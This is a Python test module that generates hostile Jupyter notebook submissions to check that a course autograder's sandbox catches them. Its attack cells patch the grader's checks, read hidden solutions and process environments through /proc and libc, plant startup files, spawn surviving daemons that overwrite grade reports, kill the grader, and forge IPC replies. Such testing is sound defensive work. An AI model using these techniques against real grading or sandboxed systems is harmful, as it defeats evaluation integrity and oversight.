"""A corpus of wrong and adversarial submissions of ``00_recap_exercises``, and what each must get.

The notebooks are built from the current solution and exercise notebooks, so they never go stale;
exercise ids, cell ids and points are read from the solution notebook and the checks' registry:

    python tests/hostile/corpus.py OUT_DIR [REPORTS_DIR]   # then: python course.py grade OUT_DIR --out REPORTS_DIR

tests/test_grader.py grades them all in one batch and checks every row against `expected()`.

The attacks are written as a student would write them, against the grader as documented in
docs/grading.md (its threat model), not against its code. Where an attack would gain something if
it worked (a leaked solution, a rewritten report), it says so in a way the score shows: an attack
that reads the solutions executes what it read, so a leak would turn a 0 into full marks.
"""

from __future__ import annotations

import json
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
NAME = "00_recap_exercises"
TOKEN = "pwned-by-the-hostile-corpus"  # written by the attacks that try to change files


@dataclass
class Expect:
    status: str
    score: float
    flags: set[str] = field(default_factory=set)  # integrity kinds that must be reported
    why: str = ""


def exercises() -> list[dict]:
    """The notebook's exercises in order: id, check cell id, solution cell id, points."""
    from course_lib.checks import EXERCISES

    nb = nbformat.read(ROOT / "solutions" / f"{NAME}.ipynb", as_version=4)
    found, solution = [], None
    for cell in nb.cells:
        if cell.cell_type == "code" and "### BEGIN SOLUTION" in cell.source:
            solution = cell.id
        if "checker" in cell.metadata.get("tags", []):
            ex = cell.metadata["course"]["exercise"]
            found.append({"id": ex, "check": cell.id, "solution": solution, "points": EXERCISES[ex].max_score})
    assert len(found) == 3, found
    return found


def expected() -> dict[str, Expect]:
    e1, e2, e3 = (e["points"] for e in exercises())
    total = e1 + e2 + e3
    return {
        "solved": Expect("graded", total, why="the solution, outputs stripped"),
        "unsolved": Expect("graded", 0, why="the student version as generated"),
        "partial": Expect("graded", e1, why="only the first exercise written"),
        "infinite_loop": Expect("timeout", total, why="a cell that loops forever and ignores interrupts: killed, "
                                                      "a fresh kernel replays the earlier cells, the rest is graded"),
        "slow_method": Expect("timeout", total - 1, why="random_predictor never returns: that check fails"),
        "os_exit": Expect("kernel_died", total, why="os._exit in a cell: a fresh kernel goes on"),
        "os_exit_in_check": Expect("kernel_died", total - 8, why="os._exit inside zero_predictor, during the checks"),
        "edited_checker": Expect("graded", total - e1, {"checker_cell_edited"},
                                 why="ex 1 unsolved, its check cell replaced by print('All checks passed')"),
        "deleted_checker": Expect("graded", total - e2, {"checker_cell_missing"},
                                  why="ex 2 unsolved, its check cell deleted"),
        "monkeypatched_checker": Expect("graded", 0, {"forbidden_import"},
                                        why="patches the checks, torch.allclose and the grader's agent"),
        "prints_passed": Expect("graded", 0, why="prints 'passed' and carries fake passing outputs in the file"),
        "reads_solutions": Expect("graded", 0, {"forbidden_read", "subprocess"},
                                  why="reads solutions/ (open, listdir, cat) to exec the solutions"),
        "huge_output": Expect("graded", total, why="prints 20 MB and tries to write a 1 GB file"),
        "one_seed": Expect("graded", e1 + e2, why="ex 3 answered from a table of the notebook's own seeds"),
        "syntax_error": Expect("graded", total - e2, why="a syntax error in ex 2's cell"),
        "out_of_memory": Expect("out_of_memory", total, why="a cell allocates 16 GB"),
        "kills_grader": Expect("graded", total, {"signal"}, why="tries to SIGKILL the grader's process"),
        "not_a_notebook": Expect("invalid", 0, why="not JSON"),
        # -- the operating system's sandbox ------------------------------------------------------
        "writes_course": Expect("graded", total, {"forbidden_write"},
                                why="replaces course_tools/agent.py, adds files to solutions/ and course_lib/checks/, "
                                    "by the paths in the sandbox and on the host"),
        "leaks_solutions": Expect("graded", 0, {"forbidden_read"},
                                  why="reads the solutions through os.open(dir_fd=...), ctypes' libc open, "
                                      "/proc/*/root, the host's path; executes whatever it found"),
        "reads_grader_env": Expect("graded", 0, {"forbidden_read"},
                                   why="reads the environment and command line of every process it can see, for "
                                       "the grader's; executes the solutions if it found the grader"),
        "survivor_children": Expect("graded", total, {"processes_left_running"},
                                    why="_posixsubprocess.fork_exec, a ctypes fork + setsid, and multiprocessing "
                                        "'spawn' children that outlive the kernel and rewrite the reports later"),
        "rewrites_classmates": Expect("graded", total, {"forbidden_write"},
                                      why="rewrites the other submissions and their reports during the batch"),
        "symlinks_in_scratch": Expect("graded", total,
                                      why="plants symlinks to a classmate's notebook where the grader once put its "
                                          "request and reply files"),
        "restart_from_scratch": Expect("kernel_died", 0,
                                       why="writes its own sandbox.py, sitecustomize.py and IPython startup file into "
                                           "the scratch folder, then crashes: the restarted kernel must not run them"),
        "truncates_log": Expect("graded", total, {"forbidden_read", "evidence_channel_closed"},
                                why="floods the pipe its sandbox reports on with 2000 fake reports, raises a "
                                    "refusal, then truncates every descriptor and closes that pipe"),
        "forged_stride0": Expect("graded", 0, {"invalid_reply"},
                                 why="answers the checks with a 1.6 kB stride-0 tensor of 6e9 elements"),
        "forged_devzero": Expect("kernel_died", 0, {"protocol_violation"},
                                 why="answers the checks with an endless reply (a header of 2**62 bytes, then "
                                     "/dev/zero)"),
        "network": Expect("graded", 0, {"network"}, why="connects out, to the host's loopback, and resolves names; "
                                                     "executes the solutions if anything answered"),
        "duplicate_check_id": Expect("graded", total, {"checker_cell_duplicated"},
                                     why="a copy of ex 1's check cell, same id, above its solution"),
        "wrong_notebook": Expect("graded", 0, {"wrong_notebook", "checker_cell_missing"},
                                 why="the solved 01_vae_exercises saved under this notebook's file name"),
        "symlink_to_solution": Expect("invalid", 0, {"submission_is_symlink"},
                                      why="a symbolic link to solutions/00_recap_exercises.ipynb"),
        "copy_of_solution": Expect("graded", total, {"copy_of_solution"},
                                   why="solutions/00_recap_exercises.ipynb byte for byte (a copy; a hard link reads the same)"),
        "zz_solved_last": Expect("graded", total, why="graded after every attack in the batch: still full marks"),
        "zz_unsolved_last": Expect("graded", 0, why="graded after every attack in the batch: still 0"),
    }


EXPECTED = expected()


def _load(kind: str) -> nbformat.NotebookNode:
    nb = nbformat.read(ROOT / kind / f"{NAME}.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def _cell(nb, cell_id: str):
    return next(c for c in nb.cells if c.get("id") == cell_id)


def _insert_after(nb, cell_id: str, source: str, new_id: str) -> None:
    i = [c.get("id") for c in nb.cells].index(cell_id)
    cell = nbformat.v4.new_code_cell(source)
    cell.id = new_id
    nb.cells.insert(i + 1, cell)


def _mix(solved_ids: set[str]) -> nbformat.NotebookNode:
    """The exercise notebook with the solution cells of some exercises."""
    nb, sol = _load("exercises"), _load("solutions")
    for cid in solved_ids:
        _cell(nb, cid).source = _cell(sol, cid).source
    return nb


EX1, EX2, EX3 = (e["check"].removesuffix("-check") for e in exercises())


def _solution_code() -> str:
    """The code of the solution cells: what a leak would let an attack execute."""
    sol = _load("solutions")
    return "\n\n".join(_cell(sol, e["solution"]).source for e in exercises())


def _without_solutions(nb) -> nbformat.NotebookNode:
    """The notebook without the learner's solution cells: the checks see only what an attack defines."""
    ids = {e["solution"] for e in exercises()}
    nb.cells = [c for c in nb.cells if c.get("id") not in ids]
    return nb


# A prelude for the attacks that would gain something: whatever they leak, they execute.
REWARD = """
def reward_if(leaked):
    if leaked:
        exec(compile(SOLUTION_CODE, "leaked", "exec"), globals())
        print("LEAKED:", str(leaked)[:200])
    return leaked
"""


def one_seed_cheat() -> str:
    """A UNetAnalyzer that answers from a table of the cases the notebook's own seeds draw."""
    from course_tools.checking import FEEDBACK_SEEDS, Run
    from course_lib.checks.recap import UNET, _configs, unet_levels

    run = Run(None, UNET, FEEDBACK_SEEDS)
    levels = {(i, tuple(c), r): unet_levels(i, c, r) for i, c, r in _configs(run)}
    rng = run.rng(5)
    convs = {}
    for _ in range(4):
        ci, co, k = (int(v) for v in (rng.integers(1, 300), rng.integers(1, 300), rng.choice([1, 3, 4, 5])))
        convs[(ci, co, k)] = co * ci * k * k + co
    return f'''# Answers copied from what the check cell asked for. Right for the notebook's seeds only.
LEVELS = {levels!r}
CONVS = {convs!r}


class UNetAnalyzer:
    def __init__(self, in_ch, channel_config):
        self.key = (in_ch, tuple(channel_config))

    def conv_params(self, c_in, c_out, kernel=3):
        return CONVS.get((c_in, c_out, kernel), 0)

    def analyze(self, input_res=64):
        return LEVELS.get((*self.key, input_res), [])

    def decoder_share(self, input_res=64):
        lv = self.analyze(input_res)
        return sum(x["params"] for x in lv if x["name"].startswith("dec_")) / max(1, sum(x["params"] for x in lv))
'''


def build(out: Path, reports: Path | None = None) -> dict[str, Path]:
    """Write every notebook of the corpus into ``out``; returns {name: path}. ``reports`` is where
    the grader will write its reports (the attacks that rewrite reports aim there)."""
    out.mkdir(parents=True, exist_ok=True)
    all_solved = {f"{e}-solution" for e in (EX1, EX2, EX3)}
    nbs: dict[str, nbformat.NotebookNode] = {}

    nbs["solved"] = _load("solutions")
    nbs["unsolved"] = _load("exercises")
    nbs["partial"] = _mix({f"{EX1}-solution"})

    nb = _mix(all_solved)
    _insert_after(nb, f"{EX1}-check", "import time\nwhile True:  # and no interrupt gets out\n    try:\n"
                                      "        time.sleep(0.1)\n    except KeyboardInterrupt:\n        pass",
                  "hostile-loop")
    nbs["infinite_loop"] = nb

    nb = _mix(all_solved)
    c = _cell(nb, f"{EX2}-solution")
    c.source = c.source.replace("        return torch.randn_like(xt)", "        while True:\n            pass")
    nbs["slow_method"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, f"{EX1}-check", "import os\nos._exit(3)", "hostile-exit")
    nbs["os_exit"] = nb

    nb = _mix(all_solved)
    c = _cell(nb, f"{EX2}-solution")
    c.source = c.source.replace("        return torch.zeros_like(xt)", "        import os\n        os._exit(1)")
    nbs["os_exit_in_check"] = nb

    nb = _mix({f"{EX2}-solution", f"{EX3}-solution"})
    _cell(nb, f"{EX1}-check").source = 'print("All checks passed.")'
    nbs["edited_checker"] = nb

    nb = _mix({f"{EX1}-solution", f"{EX3}-solution"})
    nb.cells = [c for c in nb.cells if c.get("id") != f"{EX2}-check"]
    nbs["deleted_checker"] = nb

    nb = _mix(set())
    _insert_after(nb, "setup", '''import numpy as np
import sys, types
torch.allclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
try:
    import course_lib.checks as checks
    checks.check = lambda *a, **k: print("All checks passed.")
except ImportError as err:
    print("blocked:", err)
try:
    import course_tools.checking as checking
    checking.Run.close = lambda *a, **k: None
    checking.Run.equal = lambda *a, **k: None
    checking.Run.expect = lambda *a, **k: None
except ImportError as err:
    print("blocked:", err)
fake = types.ModuleType("_course_agent")
fake.serve = lambda req, rep: open(rep, "wb").write(b"not a reply")
sys.modules["_course_agent"] = fake''', "hostile-patch")
    nbs["monkeypatched_checker"] = nb

    nb = _mix(set())
    _insert_after(nb, "setup", 'for _ in range(3):\n    print("All checks passed. 28/28 points")', "hostile-print")
    for cell in nb.cells:
        if "checker" in cell.metadata.get("tags", []):
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="All checks passed.\n")]
            cell.execution_count = 1
    nbs["prints_passed"] = nb

    nb = _mix(set())
    _insert_after(nb, "setup", '''import json, os, subprocess
from pathlib import Path
import course_lib
solutions = Path(course_lib.__file__).resolve().parents[1] / "solutions"
for attempt in (lambda: os.listdir(solutions),
                lambda: subprocess.run(["cat", str(solutions / "00_recap_exercises.ipynb")], capture_output=True),
                lambda: exec(compile("\\n".join(c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                                              for c in json.load(open(solutions / "00_recap_exercises.ipynb"))["cells"]
                                              if c["cell_type"] == "code" and "checker" not in c["metadata"].get("tags", [])),
                                     "solutions", "exec"), globals())):
    try:
        attempt()
    except Exception as err:
        print(type(err).__name__, err)''', "hostile-read")
    nbs["reads_solutions"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, f"{EX1}-check", '''line = "x" * 100_000
for _ in range(200):
    print(line)
try:
    with open("big.bin", "wb") as f:
        for _ in range(1024):
            f.write(b"0" * 2**20)
except OSError as err:
    print(err)''', "hostile-output")
    nbs["huge_output"] = nb

    nb = _mix({f"{EX1}-solution", f"{EX2}-solution"})
    _cell(nb, f"{EX3}-solution").source = one_seed_cheat()
    nbs["one_seed"] = nb

    nb = _mix(all_solved)
    c = _cell(nb, f"{EX2}-solution")
    c.source = c.source.replace("def zero_predictor(self, xt, t):", "def zero_predictor(self, xt, t)")
    nbs["syntax_error"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, f"{EX1}-check", "big = torch.ones(2**32)  # 16 GB of float32", "hostile-oom")
    nbs["out_of_memory"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, f"{EX1}-check", "import os, signal\nfor pid in (os.getppid(), 1):\n    try:\n"
                                      "        os.kill(pid, signal.SIGKILL)\n    except PermissionError as err:\n"
                                      "        print(err)", "hostile-kill")
    nbs["kills_grader"] = nb

    attacks(nbs, out, reports, all_solved)
    paths = {}
    for name, nb in nbs.items():
        paths[name] = out / f"{name}_{NAME}.ipynb"
        paths[name].write_text(json.dumps(nb, indent=1))  # as is: nbformat.write would rename duplicate ids
    paths["not_a_notebook"] = out / f"not_a_notebook_{NAME}.ipynb"
    paths["not_a_notebook"].write_text("{ this is not json")
    paths["symlink_to_solution"] = out / f"symlink_to_solution_{NAME}.ipynb"
    paths["symlink_to_solution"].symlink_to(ROOT / "solutions" / f"{NAME}.ipynb")
    paths["copy_of_solution"] = out / f"copy_of_solution_{NAME}.ipynb"
    shutil.copyfile(ROOT / "solutions" / f"{NAME}.ipynb", paths["copy_of_solution"])
    assert set(paths) == set(EXPECTED), set(paths) ^ set(EXPECTED)
    return paths


def attacks(nbs: dict, out: Path, reports: Path | None, all_solved: set[str]) -> None:
    """The attacks on the sandbox, the channel and the grading process (issue "Grading that holds")."""
    reports = reports or out.parent / "reports"
    targets = {"root": str(ROOT), "out": str(out), "reports": str(reports), "token": TOKEN, "name": NAME}
    prelude = f"TARGETS = {json.dumps(targets)}\nSOLUTION_CODE = {_solution_code()!r}\n" + REWARD

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import os, pathlib
import course_lib, course_tools.agent as agent
here = pathlib.Path(course_lib.__file__).resolve().parents[1]
attempts = []
for root in {str(here), TARGETS["root"]}:
    for rel, text in [("course_tools/agent.py", "# " + TARGETS["token"] + "\\nraise SystemExit"),
                      ("solutions/pwned.ipynb", TARGETS["token"]),
                      ("course_lib/checks/pwned.py", TARGETS["token"]),
                      ("course_lib/checks/__init__.py", TARGETS["token"])]:
        path = os.path.join(root, rel)
        for how in (lambda: open(path, "w").write(text),
                    lambda: os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)),
                    lambda: os.replace(os.devnull, path)):
            try:
                how()
                attempts.append(("wrote", path))
            except Exception as err:
                attempts.append((type(err).__name__, path))
print(attempts)''', "hostile-write-course")
    nbs["writes_course"] = nb

    nb = _without_solutions(_mix(set()))
    _insert_after(nb, "setup", prelude + '''
import ctypes, glob, os
found = []
def grab(f):
    try:
        data = f()
        if isinstance(data, bytes):
            data = data.decode("utf-8", "replace")
        if "BEGIN SOLUTION" in (data or ""):
            found.append(data)
    except Exception as err:
        print(type(err).__name__, err)
def read_fd(fd):
    with os.fdopen(fd, "rb") as f:
        return f.read()
name = TARGETS["name"] + ".ipynb"
for base in ("/", "/course", TARGETS["root"], os.getcwd()):
    for rel in (f"solutions/{name}", f"course/solutions/{name}", f"../solutions/{name}",
                TARGETS["root"].lstrip("/") + f"/solutions/{name}"):
        try:
            d = os.open(base, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        grab(lambda: read_fd(os.open(rel, os.O_RDONLY, dir_fd=d)))
libc = ctypes.CDLL(None, use_errno=True)
for path in (f"{TARGETS['root']}/solutions/{name}", f"/course/solutions/{name}"):
    def native(path=path):
        fd = libc.open(path.encode(), 0)
        if fd < 0:
            raise OSError(ctypes.get_errno(), path)
        buf = ctypes.create_string_buffer(1 << 22)
        n = libc.read(fd, buf, 1 << 22)
        return buf.raw[:max(n, 0)]
    grab(native)
for pattern in ("/proc/*/root" + TARGETS["root"] + "/solutions/*.ipynb", "/proc/*/cwd/solutions/*.ipynb",
                TARGETS["root"] + "/solutions/*.ipynb", "/course/solutions/*.ipynb"):
    for path in glob.glob(pattern):
        grab(lambda: open(path, "rb").read())
reward_if(found)''', "hostile-leak")
    nbs["leaks_solutions"] = nb

    nb = _without_solutions(_mix(set()))
    _insert_after(nb, "setup", prelude + '''
import os
seen = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "1", str(os.getppid())]:
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                seen.append(f.read().decode("utf-8", "replace"))
        except OSError as err:
            print(pid, what, err)
seen.append(repr(dict(os.environ)))
reward_if([s for s in seen if "_worker" in s or "COURSE_ROOT=" in s or "--kernel-tree" in s])''',
                  "hostile-env")
    nbs["reads_grader_env"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import ctypes, json, multiprocessing, os, sys, time, _posixsubprocess
LATER = f"""
import glob, json, os, time
time.sleep(2)
for _ in range(240):
    for path in glob.glob({TARGETS["reports"]!r} + "/*.json") + [{TARGETS["reports"]!r} + "/grades.csv",
                                                               {TARGETS["reports"]!r} + "/grades.md"]:
        try:
            with open(path, "w") as f:
                f.write({TARGETS["token"]!r})
        except OSError:
            pass
    time.sleep(0.5)
"""
# 1. fork_exec, the primitive under subprocess, raises no audit event; the child starts its own session
try:
    r, w = os.pipe()
    _posixsubprocess.fork_exec([sys.executable, "-c", LATER], [os.fsencode(sys.executable)], True, (), None, None,
                               -1, -1, -1, -1, -1, -1, r, w, True, True, None, None, None, -1, None, False)
except Exception as err:
    print("fork_exec:", type(err).__name__, err)
# 2. a fork through libc, then setsid: a daemon of its own
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    try:
        exec(LATER)
    finally:
        os._exit(0)
# 3. multiprocessing's spawn: a fresh interpreter without the kernel's audit hook
def later():
    exec(LATER)
try:
    ctx = multiprocessing.get_context("spawn")
    with open("later.py", "w") as f:
        f.write("def later():\\n" + "".join("    " + line + "\\n" for line in LATER.splitlines()))
    sys.path.insert(0, os.getcwd())
    import later as mod
    ctx.Process(target=mod.later, daemon=False).start()
except Exception as err:
    print("spawn:", type(err).__name__, err)
time.sleep(0.5)''', "hostile-survivors")
    nbs["survivor_children"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import glob, os, threading, time
def rewrite():
    for _ in range(20):
        for path in glob.glob(TARGETS["out"] + "/*.ipynb") + glob.glob(TARGETS["reports"] + "/*"):
            try:
                with open(path, "w") as f:
                    f.write(TARGETS["token"])
            except OSError:
                pass
        time.sleep(0.2)
rewrite()
for path in (TARGETS["out"] + "/solved_" + TARGETS["name"] + ".ipynb", TARGETS["reports"] + "/solved.json",
             TARGETS["root"] + "/grades/solved.json"):
    try:
        open(path, "a").write(TARGETS["token"])
    except OSError as err:
        print(type(err).__name__, err)
threading.Thread(target=rewrite, daemon=True).start()''', "hostile-classmates")
    nbs["rewrites_classmates"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import os
victim = TARGETS["out"] + "/unsolved_" + TARGETS["name"] + ".ipynb"
for folder in (".rpc", ".", "/tmp"):
    os.makedirs(folder, exist_ok=True)
    for n in range(1, 60):
        for name in (f"req-{n}.pt", f"rep-{n}.pt", f"kernel-{n}.json", "sandbox.log"):
            try:
                os.symlink(victim, os.path.join(folder, name))
            except OSError as err:
                pass
print(sorted(os.listdir(".rpc"))[:5])''', "hostile-symlinks")
    nbs["symlinks_in_scratch"] = nb

    nb = _without_solutions(_mix(set()))
    _insert_after(nb, "setup", prelude + '''
import os
evil = "import builtins\\nexec(compile(" + repr(SOLUTION_CODE) + ", 'evil', 'exec'), builtins.__dict__)\\n"
for folder in ("course_tools/grading", "course_lib", ".ipython/profile_default/startup", "/tmp/ipython/profile_default/startup",
               "/tmp/course_tools/grading", "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
    except OSError:
        continue
for path, text in [("course_tools/__init__.py", ""), ("course_tools/grading/__init__.py", ""),
                   ("course_tools/grading/sandbox.py", evil), ("sitecustomize.py", evil), ("usercustomize.py", evil),
                   (".ipython/profile_default/startup/00-evil.py", evil),
                   ("/tmp/ipython/profile_default/startup/00-evil.py", evil), ("/tmp/sitecustomize.py", evil),
                   ("/tmp/course_tools/__init__.py", ""), ("/tmp/course_tools/grading/__init__.py", ""),
                   ("/tmp/course_tools/grading/sandbox.py", evil)]:
    try:
        with open(path, "w") as f:
            f.write(text)
    except OSError as err:
        print(type(err).__name__, path)
os._exit(1)  # crash: the grader starts a replacement kernel''', "hostile-restart")
    nbs["restart_from_scratch"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import os
fds = [int(x) for x in os.environ.get("COURSE_SANDBOX_FDS", "").split(",") if x]
for i in range(2000):  # bury what comes next under a flood of reports of its own
    os.write(fds[2], f"network\\tnothing to see {i}\\n".encode())
try:
    open("/course/solutions/" + TARGETS["name"] + ".ipynb").read()  # refused, and reported
except Exception as err:
    print(type(err).__name__, err)
for fd in range(3, 64):  # every descriptor that is not ours: truncate it, then close it
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    try:
        os.ftruncate(fd, 0)
    except OSError:
        pass
os.close(fds[2])  # the events pipe
''', "hostile-log")
    nbs["truncates_log"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import sys, torch
agent = sys.modules["course_tools.agent"]
def forged(self, request):
    one = torch.ones(1)
    return {"ok": True, "value": torch.as_strided(one, (6_000_000_000,), (0,)), "seconds": 0.0, "warnings": [],
            "mutated": []}
agent.AgentCore.serve = forged''', "hostile-stride0")
    nbs["forged_stride0"] = nb

    nb = _mix(all_solved)
    _insert_after(nb, "setup", prelude + '''
import os, sys, threading
agent = sys.modules["course_tools.agent"]
replies = int(os.environ["COURSE_SANDBOX_FDS"].split(",")[1])
def forged(self, request):
    os.write(replies, b"A" + (1).to_bytes(8, "big") + (2**62).to_bytes(8, "big"))
    with open("/dev/zero", "rb") as zero:
        while True:
            os.write(replies, zero.read(1 << 20))
agent.AgentCore.serve = forged''', "hostile-devzero")
    nbs["forged_devzero"] = nb

    nb = _without_solutions(_mix(set()))
    _insert_after(nb, "setup", prelude + '''
import socket
answers = []
for host, port in [("1.1.1.1", 80), ("8.8.8.8", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("localhost", 80)]:
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            answers.append((host, port))
    except Exception as err:
        print(host, port, type(err).__name__)
try:
    answers.append(socket.getaddrinfo("pypi.org", 443))
except Exception as err:
    print("dns", type(err).__name__)
reward_if(answers)''', "hostile-network")
    nbs["network"] = nb

    nb = _mix(all_solved)
    sol = _load("solutions")
    copy = nbformat.v4.new_code_cell(_cell(sol, f"{EX1}-check").source)
    copy.id = f"{EX1}-check"
    copy.metadata = _cell(sol, f"{EX1}-check").metadata
    i = [c.get("id") for c in nb.cells].index(f"{EX1}-solution")
    nb.cells.insert(i, copy)
    nbs["duplicate_check_id"] = nb

    nbs["wrong_notebook"] = nbformat.read(ROOT / "solutions" / "01_vae_exercises.ipynb", as_version=4)

    nbs["zz_solved_last"] = _load("solutions")
    nbs["zz_unsolved_last"] = _load("exercises")


if __name__ == "__main__":
    out_dir = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus").resolve()
    reports_dir = Path(sys.argv[2]).resolve() if len(sys.argv) > 2 else None
    for name, path in build(out_dir, reports_dir).items():
        print(f"{path}: {EXPECTED[name].why}")
